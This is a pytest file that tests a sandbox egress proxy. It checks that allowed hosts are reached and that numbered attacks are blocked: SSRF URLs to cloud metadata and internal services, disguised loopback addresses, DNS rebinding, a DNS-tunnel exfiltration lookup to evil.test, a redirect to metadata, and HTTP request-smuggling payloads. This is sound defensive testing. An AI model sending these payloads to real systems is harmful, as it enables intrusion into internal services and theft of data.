"""The egress proxy with real sandboxes: what is allowed gets out, attacks 39 to 46 do not."""

from collections.abc import AsyncIterator, Collection
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from factotum.core.addresses import Guard
from factotum.core.ids import new_id
from factotum.protocol.network import Network, NetworkLayers
from factotum.sandbox.browser.client import Browser
from factotum.sandbox.browser.wire import Frame
from factotum.sandbox.egress.grants import Connection, Grant
from factotum.sandbox.egress.proxy import EgressProxy
from factotum.sandbox.local.provider import LocalSandboxProvider
from factotum.sandbox.local.sandbox import LocalSandbox
from factotum.settings import default_sandbox_python
from factotum.testing.provider.http import Answer, HttpRequest
from factotum.testing.web import LoopbackWeb, json_answer
from tests.needs import needs_browser, needs_sandbox
from tests.waiting import until

SITE = default_sandbox_python()
OPEN = NetworkLayers([Network(mode="open")])
CODE = "curl -s -o /dev/null -w '%{http_code}' --max-time 10"


@dataclass
class Outside:
    """A proxy whose guard knows the server on loopback by every public name, and what was noted."""

    proxy: EgressProxy
    provider: LocalSandboxProvider
    web: LoopbackWeb
    names: dict[str, list[str]] = field(default_factory=dict[str, list[str]])
    asked: list[str] = field(default_factory=list[str])
    noted: list[Connection] = field(default_factory=list[Connection])

    async def open(self, rules: NetworkLayers) -> tuple[LocalSandbox, Grant]:
        """Open a sandbox for a run with these rules."""
        grant = self.proxy.grant(rules, self.noted.append)
        return await self.provider.open(new_id(), environment=grant.environment), grant

    async def last(self) -> tuple[str, int, str, str]:
        """Return host, port, verdict and reason of the newest connection, once it has ended."""
        await until(lambda: bool(self.noted))
        note = self.noted.pop()
        return note.host, note.port, note.verdict, note.reason


async def hello(request: HttpRequest, answer: Answer) -> None:
    """Say what came."""
    body = {"path": request.path, "query": request.query, "body": request.body.decode()}
    await json_answer(answer, {**body, "headers": dict(request.headers)})


@pytest.fixture
async def outside(tmp_path: Path) -> AsyncIterator[Outside]:
    tmp_path.chmod(0o755)
    async with LoopbackWeb({"/hello": hello}) as web:
        made: list[Outside] = []

        async def resolve(name: str, _port: int) -> Collection[str]:
            made[0].asked.append(name)
            return made[0].names.get(name, ["127.0.0.1"])

        folder = tmp_path / "sandboxes"
        proxy = EgressProxy(folder / ".egress" / "test", Guard(resolve, allowed=[("127.0.0.1", web.port)]))
        provider = LocalSandboxProvider(folder, python_site=SITE, egress=proxy.folder)
        await proxy.start()
        try:
            await needs_sandbox(provider)
            made.append(Outside(proxy, provider, web))
            yield made[0]
        finally:
            await provider.aclose()
            await proxy.aclose()
    assert not proxy.folder.exists()


async def output(sandbox: LocalSandbox, command: str) -> str:
    """Run a command and return what it wrote."""
    return (await sandbox.exec(command, timeout=30)).output.decode()


async def test_an_allowed_host_is_reached_and_nothing_else(outside: Outside) -> None:
    rules = NetworkLayers([Network(mode="open"), Network(mode="allow", hosts=("*.example.com",)), None])
    sandbox, _ = await outside.open(rules)
    port = outside.web.port
    said = await output(sandbox, f"curl -sS -d 'a body' http://api.example.com:{port}/hello?x=1")
    assert '"body": "a body"' in said
    assert '"query": "x=1"' in said
    assert f'"host": "api.example.com:{port}"' in said
    assert "proxy-authorization" not in said.lower()
    note = outside.noted[-1]
    assert await outside.last() == ("api.example.com", port, "allowed", "")
    assert (note.method, note.bytes_sent) == ("POST", 6)
    assert note.bytes_received > 100
    python = f"import urllib.request as u; print(u.urlopen('http://www.example.com:{port}/hello').status)"
    assert await output(sandbox, f'python3 -c "{python}"') == "200\n"
    assert outside.asked == ["api.example.com", "www.example.com"]

    assert await output(sandbox, f"{CODE} http://evil.test:{port}/hello") == "403"
    assert await outside.last() == ("evil.test", port, "refused", "host_not_allowed")
    direct = await output(sandbox, f"{CODE} --noproxy '*' http://127.0.0.1:{port}/hello; echo $?")
    assert direct.endswith("7\n")
    assert "evil.test" not in outside.asked


async def test_a_tunnel_carries_both_ways_and_sessions_have_it_too(outside: Outside) -> None:
    sandbox, _ = await outside.open(OPEN)
    port = outside.web.port
    said = await output(sandbox, f"curl -sS --proxytunnel http://a.example.com:{port}/hello")
    assert '"path": "/hello"' in said
    assert await outside.last() == ("a.example.com", port, "allowed", "")
    await sandbox.sessions.start("s")
    cursor = await sandbox.sessions.run("s", f"{CODE} http://b.example.com:{port}/hello")
    seen = await sandbox.sessions.poll("s", cursor=cursor, wait=10)
    assert b"200" in seen.data


async def test_the_forwarder_is_no_port_of_the_agent_and_comes_back(outside: Outside) -> None:
    sandbox, _ = await outside.open(OPEN)
    url = f"http://a.example.com:{outside.web.port}/hello"
    assert await output(sandbox, f"{CODE} {url}") == "200"
    assert await sandbox.ports() == []
    kill = "for p in /proc/[0-9]*; do kill -9 ${p#/proc/} 2>/dev/null; done"
    await sandbox.exec(f"({kill}) & sleep 1", timeout=10)
    again = await outside.provider.open(sandbox.project_id, environment=sandbox._environment)  # pyright: ignore[reportPrivateUsage]
    assert await output(again, f"{CODE} {url}") == "200"


async def test_a_run_that_ended_gets_no_further(outside: Outside) -> None:
    sandbox, grant = await outside.open(OPEN)
    url = f"http://a.example.com:{outside.web.port}/hello"
    assert await output(sandbox, f"{CODE} {url}") == "200"
    await outside.proxy.revoke(grant)
    assert await output(sandbox, f"{CODE} {url}") == "407"
    off, _ = await outside.open(NetworkLayers([Network(mode="off")]))
    assert await output(off, f"{CODE} {url}") == "403"
    bare = await outside.provider.open(new_id())
    assert (await output(bare, f"{CODE} {url}")).endswith("000")


PUBLIC_NAME = "a public name of the same server is answered"
ATTACKS = {
    "39 metadata": ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/"],
    "40 internal names": ["http://[fdaa::3]/", "http://app.internal/", "http://router.lan/"],
    "41 redis and postgres": ["http://127.0.0.1:6379/", "http://localhost:5432/", "http://redis:6379/"],
    "43 rebinding": ["http://rebind.example.com:$/hello"],
    "44 disguises": [
        "http://2130706433:$/hello",
        "http://0x7f.1:$/hello",
        "http://0177.0.0.1:$/hello",
        "http://[::ffff:127.0.0.1]:$/hello",
        "http://[64:ff9b::7f00:1]:$/hello",
        "http://127.1:6379/",
    ],
}


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param(name, marks=pytest.mark.attack(int(name.split()[0]), control=PUBLIC_NAME))
        for name in ATTACKS
    ],
)
async def test_attacks_from_inside(outside: Outside, attack: str) -> None:
    """Through CONNECT and through plain HTTP; the control is a public name of the same server."""
    sandbox, _ = await outside.open(OPEN)
    outside.names["rebind.example.com"] = ["127.0.0.1", "10.0.0.1"]
    outside.names["inner.example.com"] = ["::1"]
    control = f"http://ok.example.com:{outside.web.port}/hello"
    assert await output(sandbox, f"{CODE} {control}") == "200"
    assert (await outside.last())[2] == "allowed"
    came = len(outside.web.requests)
    allowed = f"127.0.0.1:{outside.web.port}"
    for url in ATTACKS[attack]:
        target = url.replace("$", str(outside.web.port + 1))  # the guard's allowance is for one port alone
        assert allowed not in target
        for how in ("", "--proxytunnel"):
            code = await output(sandbox, f"NO_PROXY= no_proxy= {CODE} -g {how} '{target}'")
            assert code in {"403", "000"}, (url, code)
            assert (await outside.last())[2:] in {
                ("refused", "address_refused"),
                ("failed", "host_unknown"),
            }, url
    assert len(outside.web.requests) == came


@pytest.mark.attack(42, control="a name that is allowed is asked for and answered")
async def test_attack_42_a_tunnel_of_names(outside: Outside) -> None:
    """There is no DNS inside, and outside nobody asks for a name that is not allowed."""
    sandbox, _ = await outside.open(NetworkLayers([Network(mode="allow", hosts=("ok.example.com",))]))
    lookup = "import socket; print(socket.getaddrinfo('c2VjcmV0.evil.test', 80))"
    assert "gaierror" in await output(sandbox, f'python3 -c "{lookup}" 2>&1')
    port = outside.web.port
    for how in ("", "--proxytunnel"):
        await output(sandbox, f"{CODE} {how} http://c2VjcmV0.evil.test:{port}/")
    assert await output(sandbox, f"{CODE} http://ok.example.com:{port}/hello") == "200"
    assert outside.asked == ["ok.example.com"]


@pytest.mark.attack(45, control="the page that redirects is read")
async def test_attack_45_a_redirect_inside_is_a_new_request(outside: Outside) -> None:
    async def away(_request: HttpRequest, answer: Answer) -> None:
        await answer.whole(302, b"", {"location": "http://169.254.169.254/"})

    outside.web.pages["/away"] = away
    sandbox, _ = await outside.open(OPEN)
    url = f"http://a.example.com:{outside.web.port}/away"
    assert await output(sandbox, f"{CODE} -L {url}") == "403"
    assert await outside.last() == ("169.254.169.254", 80, "refused", "address_refused")


RAW = """
import socket, sys, os, base64
user = os.environ["http_proxy"].split("//")[1].split("@")[0]
auth = base64.b64encode(user.encode())
s = socket.create_connection(("127.0.0.1", 3128), 10)
data = sys.stdin.buffer.read().replace(b"$AUTH", b"Proxy-Authorization: Basic " + auth)
s.sendall(data)
s.settimeout(10)
print(s.recv(65536).split(b"\\r\\n")[0].decode())
"""


@pytest.mark.attack(46, control="a request that can be read one way is answered")
@pytest.mark.parametrize(
    "request_",
    [
        r"CONNECT ok.example.com\x00.evil.test:443 HTTP/1.1\r\n$AUTH\r\n\r\n",
        r"CONNECT ok.example.com HTTP/1.1\r\n$AUTH\r\n\r\n",
        r"CONNECT ok.example.com:443:80 HTTP/1.1\r\n$AUTH\r\n\r\n",
        r"CONNECT ok.example.com:99999 HTTP/1.1\r\n$AUTH\r\n\r\n",
        r"GET http://user@ok.example.com:$/hello HTTP/1.1\r\n$AUTH\r\n\r\n",
        r"GET /hello HTTP/1.1\r\nHost: ok.example.com\r\n$AUTH\r\n\r\n",
        r"GET https://ok.example.com/ HTTP/1.1\r\n$AUTH\r\n\r\n",
        r"GET http://ok.example.com:$/hello HTTP/1.1\r\n$AUTH\r\nX: a\nY: b\r\n\r\n",
        r"GET http://ok.example.com:$/hello HTTP/1.1\r\n$AUTH\r\n folded\r\n\r\n",
        r"POST http://ok.test:$/hello HTTP/1.1\r\n$AUTH\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
        r"POST http://ok.test:$/hello HTTP/1.1\r\n$AUTH\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        r"POST http://ok.example.com:$/hello HTTP/1.1\r\n$AUTH\r\nContent-Length: +1\r\n\r\na",
    ],
)
async def test_attack_46_requests_that_could_be_read_two_ways(outside: Outside, request_: str) -> None:
    sandbox, _ = await outside.open(OPEN)
    text = request_.replace(":$/", f":{outside.web.port}/")
    said = await output(sandbox, f"printf '{text}' | python3 -c '{RAW}' 2>&1")
    assert said == "HTTP/1.1 400 Bad Request\n", said
    assert outside.web.requests == []
    good = f"GET http://ok.example.com:{outside.web.port}/hello HTTP/1.1\\r\\n$AUTH\\r\\n\\r\\n"
    assert await output(sandbox, f"printf '{good}' | python3 -c '{RAW}'") == "HTTP/1.1 200 OK\n"


async def test_a_second_request_does_not_ride_along(outside: Outside) -> None:
    sandbox, _ = await outside.open(OPEN)
    url = f"http://ok.example.com:{outside.web.port}/hello"
    both = f"GET {url} HTTP/1.1\\r\\n$AUTH\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: inner\\r\\n\\r\\n"
    assert "200 OK" in await output(sandbox, f"printf '{both}' | python3 -c '{RAW}'")
    assert [request.path for request in outside.web.requests] == ["/hello"]


async def test_mail_and_hosts_that_are_away(outside: Outside) -> None:
    sandbox, _ = await outside.open(OPEN)
    assert await output(sandbox, f"{CODE} http://ok.example.com:25/") == "403"
    assert (await outside.last())[3] == "port_not_allowed"
    outside.names["gone.example.com"] = []
    assert await output(sandbox, f"{CODE} http://gone.example.com/") == "502"
    assert (await outside.last())[2:] == ("failed", "host_unknown")


async def test_bounds_on_bytes_and_connections(outside: Outside, monkeypatch: pytest.MonkeyPatch) -> None:
    async def large(_request: HttpRequest, answer: Answer) -> None:
        await answer.whole(200, bytes(3_000_000), {})

    outside.web.pages["/large"] = large
    sandbox, grant = await outside.open(OPEN)
    root = f"http://ok.example.com:{outside.web.port}"
    monkeypatch.setattr("factotum.sandbox.egress.grants._BYTES", 1_000_000)
    code = f"curl -sS -o /dev/null {root}/large; echo $?"
    assert not (await output(sandbox, code)).endswith("\n0\n")
    assert (await outside.last())[2:] == ("allowed", "bytes_spent")
    assert grant.used_bytes < 1_500_000
    assert await output(sandbox, f"{CODE} {root}/hello") == "403"
    assert (await outside.last())[3] == "bytes_spent"
    monkeypatch.setattr("factotum.sandbox.egress.grants._BYTES", 10_000_000)
    monkeypatch.setattr("factotum.sandbox.egress.grants._CONNECTIONS", grant.made + 1)
    assert await output(sandbox, f"{CODE} {root}/hello") == "200"
    assert (await outside.last())[2] == "allowed"
    assert await output(sandbox, f"{CODE} {root}/hello") == "403"
    assert outside.noted == []


async def test_the_browser_goes_out_as_the_run_that_asks_may(outside: Outside) -> None:
    await needs_browser(SITE)
    sandbox, first = await outside.open(OPEN)
    url = f"http://site.test:{outside.web.port}/hello"

    async def look(as_: LocalSandbox) -> str:
        done = await Browser(as_).do("go_to", {"url": url, "new_tab": False}, seconds=60, show=_unseen)
        return done.text

    assert "path" in await look(sandbox)
    await outside.proxy.revoke(first)
    ended = await look(sandbox)
    assert "no_grant" in ended, ended
    second = outside.proxy.grant(OPEN, outside.noted.append)
    again = await outside.provider.open(sandbox.project_id, environment=second.environment)
    assert "path" in await look(again)
    nowhere = await look(await outside.provider.open(sandbox.project_id))
    assert "no_network" in nowhere, nowhere


async def _unseen(_frame: Frame) -> None:
    """Look away."""
